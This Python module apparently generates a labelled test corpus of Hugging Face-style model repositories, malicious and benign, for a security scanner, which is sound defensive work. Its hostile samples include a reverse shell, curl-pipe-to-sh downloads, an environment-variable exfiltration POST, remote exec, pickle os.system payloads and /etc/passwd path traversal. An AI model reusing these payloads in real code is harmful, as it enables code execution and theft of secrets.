"""Model repositories of the Hugging Face layout."""
import json

import templates
from common import ident, words
from pickleasm import Call, G, dumps
from f_safetensors import layout, wrap
from f_torch import Store, state, tzip

FAM = "hf"

ARCH = [("bert", "BertForMaskedLM"), ("llama", "LlamaForCausalLM"), ("gpt2", "GPT2LMHeadModel"), ("t5", "T5ForConditionalGeneration"), ("mistral", "MistralForCausalLM"), ("vit", "ViTForImageClassification"), ("whisper", "WhisperForConditionalGeneration"), ("clip", "CLIPModel"), ("roberta", "RobertaForSequenceClassification"), ("qwen2", "Qwen2ForCausalLM"), ("gemma2", "Gemma2ForCausalLM"), ("wav2vec2", "Wav2Vec2ForCTC")]

EVIL_PY = [
    "import os\nfrom transformers import PreTrainedModel\n\nos.system('echo case')\n\nclass Model(PreTrainedModel):\n    pass\n",
    "import subprocess\nfrom transformers import PreTrainedModel\n\nclass Model(PreTrainedModel):\n    def __init__(self, config):\n        super().__init__(config)\n        subprocess.Popen(['sh', '-c', 'curl http://192.0.2.9/x | sh'])\n",
    "import base64\nexec(base64.b64decode('cHJpbnQoJ2Nhc2UnKQ=='))\n\nclass Model:\n    pass\n",
    "import socket, os, pty\n\ndef _boot():\n    s = socket.socket()\n    s.connect(('192.0.2.10', 4444))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n\n_boot()\n\nclass Model:\n    pass\n",
    "import urllib.request\n\ncode = urllib.request.urlopen('http://example.invalid/a.py').read()\nexec(compile(code, 'a', 'exec'))\n\nclass Model:\n    pass\n",
    "import os, requests\nfrom transformers import PreTrainedModel\n\nrequests.post('http://192.0.2.11/c', json=dict(os.environ))\n\nclass Model(PreTrainedModel):\n    pass\n",
    "_m = __import__('o' + 's')\ngetattr(_m, 'sys' + 'tem')('echo case')\n\nclass Model:\n    pass\n",
    "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))\n\nclass Model:\n    pass\n",
    "import pickle\nSTATE = pickle.loads(b'cos\\nsystem\\n(S\"echo\"\\ntR.')\n\nclass Model:\n    pass\n",
    "import ctypes\nctypes.CDLL('./libcase.so').run()\n\nclass Model:\n    pass\n",
    "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('echo case\\n')\n\nclass Model:\n    pass\n",
]
GOOD_PY = '''"""A small model."""
import math
from typing import Optional

import torch
from torch import nn
from transformers import PreTrainedModel, PretrainedConfig


class TinyConfig(PretrainedConfig):
    model_type = "tiny"

    def __init__(self, hidden_size=64, num_layers=2, **kwargs):
        self.hidden_size = hidden_size
        self.num_layers = num_layers
        super().__init__(**kwargs)


class Model(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.layers = nn.ModuleList([nn.Linear(config.hidden_size, config.hidden_size) for _ in range(config.num_layers)])
        self.eval()

    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None):
        for layer in self.layers:
            x = torch.relu(layer(x)) / math.sqrt(self.config.hidden_size)
        return x
'''


def config(rng, mt, arch, **kw):
    d = {"_name_or_path": "org/" + mt, "architectures": [arch], "model_type": mt, "hidden_size": 64, "num_hidden_layers": 2, "num_attention_heads": 4, "vocab_size": 1000, "torch_dtype": "bfloat16", "transformers_version": "4.41.0", "id2label": {"0": "eval", "1": "exec"}, "label2id": {"eval": 0, "exec": 1}, "initializer_range": 0.02, "use_cache": True, "rope_scaling": None, "task_specific_params": {"summarization": {"prefix": "system: "}}}
    d.update(kw)
    return d


def repo(rng, mt="llama", arch="LlamaForCausalLM", cfg=None, **files):
    h, n = layout([("model.layers.%d.w" % i, "F32", (4, 4)) for i in range(3)])
    vocab = {"<s>": 0, "</s>": 1, "os.system": 2, "eval": 3, "__import__": 4, "</script>": 5, "../..": 6}
    vocab.update({ident(rng, 5): i + 7 for i in range(60)})
    out = {"config.json": json.dumps(config(rng, mt, arch, **(cfg or {})), indent=2), "generation_config.json": json.dumps({"bos_token_id": 1, "eos_token_id": 2, "do_sample": True, "temperature": 0.7, "transformers_version": "4.41.0"}), "model.safetensors": wrap({"__metadata__": {"format": "pt"}, **h}, rng.randbytes(n)),
           "tokenizer.json": json.dumps({"version": "1.0", "truncation": None, "added_tokens": [{"id": 0, "content": "<s>", "special": True}], "normalizer": None, "pre_tokenizer": {"type": "ByteLevel"}, "model": {"type": "BPE", "vocab": vocab, "merges": ["o s", "e v"]}}), "tokenizer_config.json": json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "model_max_length": 2048, "chat_template": rng.choice(templates.BENIGN)[1]}),
           "special_tokens_map.json": json.dumps({"bos_token": "<s>", "eos_token": {"content": "</s>", "lstrip": False}}), "README.md": "---\nlicense: apache-2.0\ntags:\n- test\n---\n# %s\n\n```python\nfrom transformers import pipeline\npipe = pipeline('text-generation', model='org/%s')\n```\n\nSee https://example.invalid/paper. Never call `os.system` on outputs.\n" % (mt, mt), ".gitattributes": "*.safetensors filter=lfs diff=lfs merge=lfs -text\n"}
    out.update(files)
    return {k: v for k, v in out.items() if v is not None}


def build(s):
    rng = s.rng(FAM)
    bad = lambda files, tech, thr="code-exec", lab="malicious", links=None: s.add_dir(FAM, lab, files, tech, thr, fmt="hf-repo", links=links)
    for i, py in enumerate(EVIL_PY):
        key = ["AutoModel", "AutoConfig", "AutoModelForCausalLM", "AutoTokenizer"][i % 4]
        val = "modeling_x.Model" if key != "AutoTokenizer" else [None, "modeling_x.Model"]
        bad(repo(rng, cfg={"auto_map": {key: val}}, **{"modeling_x.py": py}), "auto_map to harmful code no. %d" % i)
    tokc = lambda **kw: json.dumps({"tokenizer_class": "X", **kw})
    bad(repo(rng, **{"tokenizer_config.json": tokc(auto_map={"AutoTokenizer": ["tok.T", None]}), "tok.py": EVIL_PY[0]}), "auto_map of the tokenizer")
    bad(repo(rng, **{"preprocessor_config.json": json.dumps({"auto_map": {"AutoProcessor": "proc.P"}}), "proc.py": EVIL_PY[1]}), "auto_map of the processor")
    bad(repo(rng, cfg={"auto_map": {"AutoModel": "modeling_x.Model"}}, **{"modeling_x.py": "from .helper import *\n\nclass Model:\n    pass\n", "helper.py": EVIL_PY[2]}), "harmful code one import away")
    bad(repo(rng, cfg={"custom_pipelines": {"x": {"impl": "pipe.P", "pt": ["AutoModel"]}}}, **{"pipe.py": EVIL_PY[0]}), "custom pipeline code")
    bad(repo(rng, **{"custom_generate/generate.py": "import os\n\ndef generate(model, **kwargs):\n    os.system('echo case')\n    return model\n", "custom_generate/requirements.txt": "example-invalid\n"}), "custom_generate code")
    bad(repo(rng, cfg={"auto_map": {"AutoModel": "evilorg/other-repo--modeling.Model"}}), "auto_map to another repository", lab="suspicious")
    bad(repo(rng, **{"adapter_config.json": json.dumps({"peft_type": "LORA", "r": 8, "auto_mapping": {"base_model_class": "system", "parent_library": "os"}, "base_model_name_or_path": "org/base"})}), "adapter auto_mapping to os")
    bad(repo(rng, **{"adapter_config.json": json.dumps({"peft_type": "LORA", "auto_mapping": {"base_model_class": "Popen", "parent_library": "subprocess"}})}), "adapter auto_mapping to subprocess")
    for k in ("model.safetensors.index.json", "pytorch_model.bin.index.json", "tf_model.h5.index.json", "diffusion_pytorch_model.safetensors.index.json"):
        for p in ("../../../etc/passwd", "/etc/passwd", "..\\..\\x.bin"):
            if rng.random() < .6:
                bad(repo(rng, **{k: json.dumps({"metadata": {"total_size": 10}, "weight_map": {"a": "model.safetensors", "b": p}})}), "index names %s" % p, "path-traversal")
    bad(repo(rng, **{"model.safetensors.index.json": json.dumps({"metadata": {}, "weight_map": {"a": "sub/../../../x.safetensors"}})}), "index names a path in the middle", "path-traversal")
    for tech, t in rng.sample(templates.HOSTILE, 8):
        bad(repo(rng, **rng.choice([{"chat_template.jinja": t}, {"chat_templates/tool_use.jinja": t}, {"additional_chat_templates/rag.jinja": t}, {"tokenizer_config.json": tokc(chat_template=t)}, {"tokenizer_config.json": tokc(chat_template=[{"name": "default", "template": templates.BENIGN[0][1]}, {"name": "rag", "template": t}])}, {"processor_config.json": json.dumps({"chat_template": t})}])), "repository template: %s" % tech, "ssti")
    for name in ("pytorch_model.bin", "training_args.bin", "optimizer.pt", "scheduler.pt", "rng_state_0.pth", "embeddings/style.pt", "1_Pooling/pytorch_model.bin", "text_encoder/model.ckpt", "vocab.dat"):
        ev = Call(G(*rng.choice([("os", "system"), ("builtins", "exec"), ("runpy", "run_path")])), "echo case")
        bad(repo(rng, **{name: rng.choice([dumps(ev, 2), tzip({"x": ev}, {})])}), "repository with a harmful %s" % name)
    bad(repo(rng, **{"handler.py": EVIL_PY[0]}), "inference handler with harmful code")
    bad(repo(rng, **{"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "os.system"}])}), "sentence-transformers module type", lab="malicious")
    bad(repo(rng, **{"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "../../x", "type": "sentence_transformers.models.Transformer"}])}), "sentence-transformers module path leaves", "path-traversal")
    bad(repo(rng, **{"model_index.json": json.dumps({"_class_name": ["pipe", "P"], "_diffusers_version": "0.25", "unet": ["subprocess", "Popen"]})}), "diffusers component of subprocess")
    bad(repo(rng, **{"setup.py": "import os\nfrom setuptools import setup\nos.system('curl http://192.0.2.12/x | sh')\nsetup(name='x')\n"}), "harmful setup.py")
    bad(repo(rng, **{"loading_script.py": EVIL_PY[3]}), "harmful dataset script")
    bad(repo(rng), "symbolic link out of the repository", "path-traversal", links={"weights.bin": "/etc/passwd"})
    # own code that is harmless
    for k in range(3):
        s.add_dir(FAM, "review", repo(rng, cfg={"auto_map": {"AutoModel": "modeling_x.Model"}}, **{"modeling_x.py": GOOD_PY}), "auto_map to ordinary code", "custom-code", fmt="hf-repo")
    ok = lambda files, tech: s.add_dir(FAM, "benign", files, tech, fmt="hf-repo")
    for mt, arch in ARCH:
        ok(repo(rng, mt, arch), "repository of %s" % arch)
    for mt, arch in rng.sample(ARCH, 4):
        st = Store(rng)
        sd = state(st, 2)
        ok(repo(rng, mt, arch, **{"pytorch_model.bin": tzip(sd, st.blobs()), "vocab.txt": "[PAD]\n[UNK]\neval\nos\n", "merges.txt": "#version: 0.2\no s\n"}), "repository of %s with torch weights" % arch)
    ok(repo(rng, **{"model.safetensors": None, "model-00001-of-00002.safetensors": wrap(*_shard(rng, "a")), "model-00002-of-00002.safetensors": wrap(*_shard(rng, "b")), "model.safetensors.index.json": json.dumps({"metadata": {"total_size": 128}, "weight_map": {"a": "model-00001-of-00002.safetensors", "b": "model-00002-of-00002.safetensors"}})}), "two shards with an index")
    ok(repo(rng, **{"adapter_config.json": json.dumps({"peft_type": "LORA", "r": 8, "lora_alpha": 16, "target_modules": ["q_proj"], "auto_mapping": None, "base_model_name_or_path": "org/base", "task_type": "CAUSAL_LM"}), "adapter_model.safetensors": wrap(*_shard(rng, "lora"))}), "adapter")
    ok(repo(rng, **{"adapter_config.json": json.dumps({"peft_type": "LORA", "auto_mapping": {"base_model_class": "LlamaForCausalLM", "parent_library": "transformers.models.llama.modeling_llama"}})}), "adapter with auto_mapping to transformers")
    ok(repo(rng, **{"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]), "1_Pooling/config.json": json.dumps({"word_embedding_dimension": 64, "pooling_mode_mean_tokens": True})}), "sentence-transformers")
    ok({"model_index.json": json.dumps({"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.25.0", "unet": ["diffusers", "UNet2DConditionModel"], "text_encoder": ["transformers", "CLIPTextModel"], "safety_checker": [None, None]}), "unet/config.json": json.dumps({"_class_name": "UNet2DConditionModel", "sample_size": 64, "act_fn": "silu"}), "unet/diffusion_pytorch_model.safetensors": wrap(*_shard(rng, "w")), "scheduler/scheduler_config.json": json.dumps({"_class_name": "DDIMScheduler", "beta_start": 0.001})}, "diffusers pipeline")
    ok(repo(rng, **{"preprocessor_config.json": json.dumps({"image_processor_type": "ViTImageProcessor", "size": {"height": 224, "width": 224}, "image_mean": [0.5, 0.5, 0.5]}), "chat_template.jinja": templates.BENIGN[4][1]}), "vision repository")


def _shard(rng, name):
    h, n = layout([(name, "F32", (4, 4))])
    return {"__metadata__": {"format": "pt"}, **h}, rng.randbytes(n)
